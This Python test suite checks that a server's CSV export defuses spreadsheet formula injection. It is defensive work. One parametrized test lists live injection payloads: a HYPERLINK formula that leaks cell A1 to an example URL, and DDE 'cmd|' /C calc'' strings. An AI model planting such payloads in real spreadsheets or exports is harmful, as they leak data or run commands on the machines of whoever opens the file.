"""An export is safe in a spreadsheet, the same to a machine that wants it raw, and never torn."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.exporting import COLUMNS, as_csv

Row = dict[str, str | None]
#: Texts as counterparties and documents have them, often with what spreadsheets and readers trip over.
TEXTS = st.one_of(
    st.none(),
    st.text(
        st.one_of(st.sampled_from("=+-@\t\r\n\"',;|\u2028\x85 a1"), st.characters(codec="utf-8")), max_size=12
    ),
)
AMOUNTS = st.decimals(-(10**9), 10**9, places=2).map(lambda amount: f"{amount:f}")
ROWS = st.lists(
    st.fixed_dictionaries({name: AMOUNTS if name == "amount" else TEXTS for name in COLUMNS}), max_size=5
)


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def row(**cells: str) -> Row:
    return {**dict.fromkeys(COLUMNS, None), "amount": "12.50", **cells}


@given(ROWS)
def test_raw_cells_are_the_texts_of_the_books(rows: list[Row]) -> None:
    head, *rest = parsed(as_csv(rows, raw=True))
    assert head == list(COLUMNS)
    assert rest == [[row[name] or "" for name in COLUMNS] for row in rows]


@given(ROWS)
def test_no_cell_begins_a_formula_and_no_row_is_torn(rows: list[Row]) -> None:
    head, *rest = parsed(as_csv(rows))
    assert head == list(COLUMNS)
    for cells, row in zip(rest, rows, strict=True):
        assert len(cells) == len(COLUMNS)
        for name, cell in zip(COLUMNS, cells, strict=True):
            if name == "amount":
                assert re.fullmatch(r"-?[0-9]+\.[0-9]{2}", cell)
            else:
                assert cell[:1] not in set("=+-@\t\r\n")
            assert cell in {row[name] or "", f"'{row[name]}"}


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.org?x="&A1,"Pay here")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-5",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
    ],
)
def test_what_a_spreadsheet_would_run_has_an_apostrophe_before_it(text: str) -> None:
    for name in ("counterparty", "document_number", "reference", "refusal"):
        (_, cells) = parsed(as_csv([row(**{name: text})]))
        assert cells[COLUMNS.index(name)] == "'" + text
        (_, cells) = parsed(as_csv([row(**{name: text})], raw=True))
        assert cells[COLUMNS.index(name)] == text


def test_other_texts_and_negative_amounts_stay_as_they_are() -> None:
    given = row(counterparty='Smith - Sons, "The" = @home', amount="-12.50")
    (_, cells) = parsed(as_csv([given]))
    assert cells == [given[name] or "" for name in COLUMNS]
